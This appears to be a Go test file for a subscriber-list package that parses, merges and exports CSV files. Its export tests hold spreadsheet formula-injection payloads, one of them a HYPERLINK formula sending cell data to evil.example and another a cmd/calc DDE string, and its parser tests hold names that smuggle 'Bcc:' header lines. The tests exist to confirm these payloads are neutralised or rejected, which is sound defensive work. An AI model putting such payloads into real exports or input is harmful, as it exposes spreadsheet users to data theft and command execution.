package subscriber

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func parse(t *testing.T, src string) ([]Row, []Problem) {
	t.Helper()
	return ParseCSV("readers.csv", strings.NewReader(src), Daily)
}

func problemStrings(ps []Problem) []string {
	var out []string
	for _, p := range ps {
		out = append(out, p.String())
	}
	return out
}

func TestParseCSVGoodRows(t *testing.T) {
	src := "\ufeffEmail, Name ,topics,cadence\n" +
		"Ana.Petrova@Example.ORG,Ana Petrova,Foreign Policy; energy ;ENERGY,weekly\n" +
		"jorg@bücher.example,Jörg Müller,,\n" +
		"\"quoted@example.com\",\"Doe, Jane\",security,Immediate\n" +
		",,,\n"
	rows, problems := parse(t, src)
	if len(problems) != 0 {
		t.Fatalf("unexpected problems: %v", problemStrings(problems))
	}
	want := []Row{
		{Email: "ana.petrova@example.org", Name: "Ana Petrova", Topics: []string{"energy", "foreign-policy"}, Cadence: Weekly, File: "readers.csv", Line: 2},
		{Email: "jorg@bücher.example", Name: "Jörg Müller", Cadence: Daily, File: "readers.csv", Line: 3},
		{Email: "quoted@example.com", Name: "Doe, Jane", Topics: []string{"security"}, Cadence: Immediate, File: "readers.csv", Line: 4},
	}
	if len(rows) != len(want) {
		t.Fatalf("got %d rows, want %d: %+v", len(rows), len(want), rows)
	}
	for i := range want {
		if !rowsEqual(rows[i], want[i]) {
			t.Errorf("row %d:\n got %+v\nwant %+v", i, rows[i], want[i])
		}
	}
}

func rowsEqual(a, b Row) bool {
	return a.Email == b.Email && a.Name == b.Name && slices.Equal(a.Topics, b.Topics) &&
		a.Cadence == b.Cadence && a.File == b.File && a.Line == b.Line
}

func TestParseCSVBadRows(t *testing.T) {
	tests := []struct {
		name    string
		row     string
		message string
	}{
		{"not an address", "not-an-address,X,,", `email "not-an-address" is not a valid address`},
		{"display name", "Ann <ann@example.org>,Ann,,", "must be a bare address"},
		{"angle brackets only", "<ann@example.org>,Ann,,", "must be a bare address"},
		{"empty email", ",Ann,,daily", "email is empty"},
		{"unknown cadence", "ann@example.org,Ann,,hourly", `unknown cadence "hourly"`},
		{"LF in quoted name", "ann@example.org,\"Ann\nBcc: victim@example.com\",,", "field 2 contains a line break"},
		{"CR in name", "ann@example.org,Ann\rBcc: x@example.com,,", "field 2 contains a line break"},
		{"control character", "ann@example.org,Ann\x07,,", "contains control character U+0007"},
		{"invalid UTF-8", "ann@example.org,Ann\xff,,", "not valid UTF-8"},
		{"too many fields", "ann@example.org,Ann,,daily,extra", "has 5 fields, the header has 4"},
		{"too few fields", "ann@example.org,Ann", "has 2 fields, the header has 4"},
		{"bare quote", "ann@example.org,An\"n,,", `bare " in non-quoted-field`},
		{"topics without letters", "ann@example.org,Ann,;?!;,", "name no usable topic"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			src := "email,name,topics,cadence\nfirst@example.org,First,,\n" + tt.row + "\nlast@example.com,Last,,weekly\n"
			rows, problems := parse(t, src)
			if len(problems) != 1 {
				t.Fatalf("want exactly one problem, got %v", problemStrings(problems))
			}
			got := problems[0].String()
			if !strings.HasPrefix(got, "readers.csv:3: error: row skipped: ") || !strings.Contains(got, tt.message) {
				t.Errorf("problem %q, want readers.csv:3 error containing %q", got, tt.message)
			}
			var emails []string
			for _, r := range rows {
				emails = append(emails, r.Email)
			}
			if !slices.Equal(emails, []string{"first@example.org", "last@example.com"}) {
				t.Errorf("the good rows around a bad one must go on; got %v", emails)
			}
		})
	}
}

func TestParseCSVUnterminatedQuoteNamesLine(t *testing.T) {
	src := "email,name\nfirst@example.org,First\nsecond@example.org,\"Never closed\nthird@example.org,Third\n"
	rows, problems := parse(t, src)
	if len(rows) != 1 || rows[0].Email != "first@example.org" {
		t.Errorf("rows = %+v, want only the row before the broken quote", rows)
	}
	if len(problems) != 1 || problems[0].Severity != Error || !strings.Contains(problems[0].Message, "record starting at line 3") {
		t.Errorf("problems = %v, want one error naming the record's first line", problemStrings(problems))
	}
}

func TestParseCSVHeader(t *testing.T) {
	tests := []struct {
		name     string
		src      string
		rows     int
		problems []string
	}{
		{"no email column", "name,topics\nAnn,energy\n", 0,
			[]string{`readers.csv:1: error: header has no email column; file skipped (header: "name,topics")`}},
		{"empty file", "", 0, []string{"readers.csv: error: empty file: a header row naming at least the email column is required"}},
		{"unknown column warns", "email,phone\nann@example.org,123\n", 1,
			[]string{`readers.csv:1: warning: unknown column "phone" ignored (known: email, name, topics, cadence)`}},
		{"duplicate column", "email,name,Email\na@example.org,A,b@example.org\n", 0,
			[]string{`readers.csv:1: error: column "email" given twice; file skipped`}},
		{"email only", "email\nann@example.org\n", 1, nil},
		{"CRLF line endings", "email,name\r\nann@example.org,Ann\r\nbob@example.org,Bob\r\n", 2, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rows, problems := parse(t, tt.src)
			if len(rows) != tt.rows {
				t.Errorf("got %d rows, want %d", len(rows), tt.rows)
			}
			if got := problemStrings(problems); !slices.Equal(got, tt.problems) {
				t.Errorf("problems:\n got %q\nwant %q", got, tt.problems)
			}
		})
	}
}

func TestParseCSVTopicWarningAndDefaultCadence(t *testing.T) {
	rows, problems := ParseCSV("f.csv", strings.NewReader("email,topics\na@example.org,energy;???\n"), Weekly)
	if len(rows) != 1 || !slices.Equal(rows[0].Topics, []string{"energy"}) || rows[0].Cadence != Weekly {
		t.Errorf("rows = %+v", rows)
	}
	if got := problemStrings(problems); !slices.Equal(got, []string{`f.csv:2: warning: topic "???" has no letters or digits; ignored`}) {
		t.Errorf("problems = %q", got)
	}
	_, problems = ParseCSV("f.csv", strings.NewReader("email\na@example.org\n"), "fortnightly")
	if len(problems) != 1 || !strings.Contains(problems[0].String(), `f.csv:2: error: row skipped: cadence is empty and the default "fortnightly"`) {
		t.Errorf("bad default cadence: %v", problemStrings(problems))
	}
}

func writeFile(t *testing.T, dir, name, body string) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestLoadDirMergesAcrossFiles(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "b.csv", "email,name,topics,cadence\nANN@example.org,Ann Later,security,\nbob@example.org,Bob,,weekly\n")
	writeFile(t, dir, "a.csv", "email,name,topics,cadence\nann@example.org,Ann,energy,immediate\ncat@example.com,Cat,economy,\n")
	writeFile(t, dir, "notes.txt", "not a csv")
	writeFile(t, dir, "c.csv", "name\nno email column\n")
	rows, problems, err := LoadDir(dir, Daily)
	if err != nil {
		t.Fatal(err)
	}
	a, b, c := filepath.Join(dir, "a.csv"), filepath.Join(dir, "b.csv"), filepath.Join(dir, "c.csv")
	wantProblems := []string{
		c + `:1: error: header has no email column; file skipped (header: "name")`,
		b + ":2: warning: ann@example.org is also listed at " + a + ":2; this later row wins",
	}
	if got := problemStrings(problems); !slices.Equal(got, wantProblems) {
		t.Errorf("problems:\n got %q\nwant %q", got, wantProblems)
	}
	want := []Row{
		// The later row wins whole (b.csv is read after a.csv), in the first one's place.
		{Email: "ann@example.org", Name: "Ann Later", Topics: []string{"security"}, Cadence: Daily, File: b, Line: 2},
		{Email: "cat@example.com", Name: "Cat", Topics: []string{"economy"}, Cadence: Daily, File: a, Line: 3},
		{Email: "bob@example.org", Name: "Bob", Cadence: Weekly, File: b, Line: 3},
	}
	if len(rows) != len(want) {
		t.Fatalf("rows = %+v", rows)
	}
	for i := range want {
		if !rowsEqual(rows[i], want[i]) {
			t.Errorf("row %d:\n got %+v\nwant %+v", i, rows[i], want[i])
		}
	}
}

func TestMergeRules(t *testing.T) {
	rows := []Row{
		{Email: "a@example.org", Name: "A", Topics: []string{"energy"}, Cadence: Daily, File: "x.csv", Line: 2},
		{Email: "a@example.org", Topics: nil, Cadence: Weekly, File: "x.csv", Line: 5},
	}
	merged, problems := Merge(rows)
	if len(merged) != 1 || len(problems) != 1 {
		t.Fatalf("merged=%+v problems=%v", merged, problemStrings(problems))
	}
	m := merged[0]
	if m.Name != "" || m.Topics != nil || m.Cadence != Weekly || m.Line != 5 {
		t.Errorf("merge = %+v: want the later row whole", m)
	}
	if problems[0].String() != "x.csv:5: warning: a@example.org is also listed at x.csv:2; this later row wins" {
		t.Errorf("warning = %q", problems[0])
	}
}

func TestLoadDirMissingFolder(t *testing.T) {
	_, _, err := LoadDir(filepath.Join(t.TempDir(), "absent"), Daily)
	if err == nil || !strings.Contains(err.Error(), "absent") {
		t.Errorf("err = %v, want one naming the folder", err)
	}
}

func TestWriteCSVRoundTrip(t *testing.T) {
	in := []Row{
		{Email: "ana@example.org", Name: "Petrova, Ana", Topics: []string{"energy", "security"}, Cadence: Weekly},
		{Email: "jorg@bücher.example", Name: "Jörg \"JM\" Müller", Cadence: Immediate},
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, in); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(buf.String(), "email,name,topics,cadence\n") {
		t.Errorf("header missing: %q", buf.String())
	}
	out, problems := ParseCSV("export.csv", &buf, Daily)
	if len(problems) != 0 || len(out) != len(in) {
		t.Fatalf("read back %+v with %v", out, problemStrings(problems))
	}
	for i := range in {
		if out[i].Email != in[i].Email || out[i].Name != in[i].Name || !slices.Equal(out[i].Topics, in[i].Topics) || out[i].Cadence != in[i].Cadence {
			t.Errorf("row %d: got %+v, want %+v", i, out[i], in[i])
		}
	}
}

// The sample list shipped in the repository must load cleanly.
func TestSampleSubscribers(t *testing.T) {
	rows, problems, err := LoadDir(filepath.Join("..", "..", "subscribers"), Daily)
	if err != nil {
		t.Fatal(err)
	}
	if len(problems) != 0 {
		t.Errorf("sample list has problems: %v", problemStrings(problems))
	}
	if len(rows) < 4 {
		t.Errorf("sample list has %d subscribers, want at least 4", len(rows))
	}
	immediate := 0
	for _, r := range rows {
		if r.Cadence == Immediate {
			immediate++
		}
	}
	if immediate < 2 {
		t.Errorf("sample list has %d immediate subscribers, want at least 2", immediate)
	}
}

// sameSubscriber compares what an export carries (not where a row was read).
func sameSubscriber(a, b Row) bool {
	return a.Email == b.Email && a.Name == b.Name && slices.Equal(a.Topics, b.Topics) && a.Cadence == b.Cadence
}

// exportedCells reads an export back with encoding/csv alone: the cells as a
// spreadsheet sees them.
func exportedCells(t testing.TB, data []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v", err)
	}
	return recs
}

func TestExportEscapesFormulas(t *testing.T) {
	tests := []struct {
		name     string // as stored (a web sign-up name, say)
		wantCell string // as the spreadsheet gets it
	}{
		{`=HYPERLINK("https://evil.example/?x="&A2,"Click")`, `'=HYPERLINK("https://evil.example/?x="&A2,"Click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"'=1+1", "''=1+1"},      // already escaped by hand: one more, so it reads back as written
		{"''-x", "'''-x"},        // any run of apostrophes before a formula character
		{"'t Hooft", "'t Hooft"}, // an apostrophe of the name's own is left alone
		{"Ana = Petrova", "Ana = Petrova"},
		{"Ana-Maria", "Ana-Maria"},
		{"", ""},
	}
	for _, tt := range tests {
		t.Run(tt.wantCell, func(t *testing.T) {
			in := Row{Email: "reader@example.org", Name: tt.name, Cadence: Daily}
			var buf bytes.Buffer
			cw, err := NewCSVWriter(&buf)
			if err != nil {
				t.Fatal(err)
			}
			if err := cw.Write(in); err != nil {
				t.Fatal(err)
			}
			if err := cw.Flush(); err != nil {
				t.Fatal(err)
			}
			recs := exportedCells(t, buf.Bytes())
			if len(recs) != 2 || recs[1][1] != tt.wantCell {
				t.Fatalf("exported %q, want the name cell %q", recs, tt.wantCell)
			}
			// What the web form stores never reaches a list file, but an export
			// read back by ParseCSV must give the name as it was (where ParseCSV
			// accepts it at all: it refuses control characters).
			out, problems := ParseCSV("export.csv", &buf, Daily)
			if badCharacters(tt.name) != "" {
				if len(out) != 0 || len(problems) != 1 {
					t.Fatalf("a name with control characters read back as %+v, %v", out, problemStrings(problems))
				}
				return
			}
			if len(problems) != 0 || len(out) != 1 || !sameSubscriber(out[0], in) {
				t.Fatalf("read back %+v with %v, want %+v", out, problemStrings(problems), in)
			}
		})
	}
}

// Addresses may start with a formula character too ("-x@" and "+x@" are valid
// local parts): the export escapes them and ParseCSV reads them back.
func TestExportEscapesAddresses(t *testing.T) {
	in := []Row{
		{Email: "-news@example.org", Cadence: Weekly},
		{Email: "+1@example.org", Cadence: Daily},
		{Email: "=x@example.org", Cadence: Daily},
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, in); err != nil {
		t.Fatal(err)
	}
	for i, rec := range exportedCells(t, buf.Bytes())[1:] {
		if rec[0] != "'"+in[i].Email {
			t.Errorf("address cell %q, want %q", rec[0], "'"+in[i].Email)
		}
	}
	out, problems := ParseCSV("export.csv", &buf, Daily)
	if len(problems) != 0 || len(out) != len(in) {
		t.Fatalf("read back %+v with %v", out, problemStrings(problems))
	}
	for i := range in {
		if !sameSubscriber(out[i], in[i]) {
			t.Errorf("row %d: got %+v, want %+v", i, out[i], in[i])
		}
	}
}
